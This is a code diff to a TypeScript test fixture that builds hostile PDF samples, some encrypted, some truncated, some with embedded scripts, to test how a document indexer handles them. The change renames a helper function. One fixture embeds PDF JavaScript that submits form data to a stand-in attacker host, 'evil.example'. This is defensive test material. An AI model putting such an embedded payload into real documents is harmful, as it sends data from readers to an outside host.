@@ -21,7 +21,7 @@ const picture = (number: number) => ({
   ],
 });
 
-async function made(
+async function pdfWith(
   save: (pdf: PDFDocument) => void | Promise<void> = () => {},
 ): Promise<Uint8Array> {
   const pdf = await PDFDocument.create();
@@ -50,7 +50,7 @@ function endlessForms(): Uint8Array {
 }
 
 export const pdfFiles: HostileFile[] = [
-  file("a PDF of two pages", "plan.pdf", () => made(), {
+  file("a PDF of two pages", "plan.pdf", () => pdfWith(), {
     found: [
       ["agreed budget is 48000 euros", { page: 1 }],
       ["Kick-off is in March", { page: 2 }],
@@ -139,20 +139,20 @@ export const pdfFiles: HostileFile[] = [
   file(
     "a password to open it",
     "secret.pdf",
-    () => made((pdf) => void pdf.encrypt({ userPassword: "one", ownerPassword: "two" })),
+    () => pdfWith((pdf) => void pdf.encrypt({ userPassword: "one", ownerPassword: "two" })),
     fails("encrypted"),
   ),
   file(
     "a password only to change it",
     "locked.pdf",
-    () => made((pdf) => void pdf.encrypt({ userPassword: "", ownerPassword: "two" })),
+    () => pdfWith((pdf) => void pdf.encrypt({ userPassword: "", ownerPassword: "two" })),
     indexed,
   ),
   file(
     "scripts and files inside",
     "active.pdf",
     () =>
-      made(async (pdf) => {
+      pdfWith(async (pdf) => {
         pdf.addJavaScript("main", 'app.alert("pwned"); this.submitForm("http://evil.example");');
         await pdf.attach(utf8("attached words"), "inside.txt", { mimeType: "text/plain" });
       }),
@@ -221,7 +221,7 @@ export const pdfFiles: HostileFile[] = [
   file(
     "the first half alone",
     "half.pdf",
-    () => made().then((pdf) => pdf.subarray(0, 300)),
+    () => pdfWith().then((pdf) => pdf.subarray(0, 300)),
     fails("corrupt"),
   ),
   file(
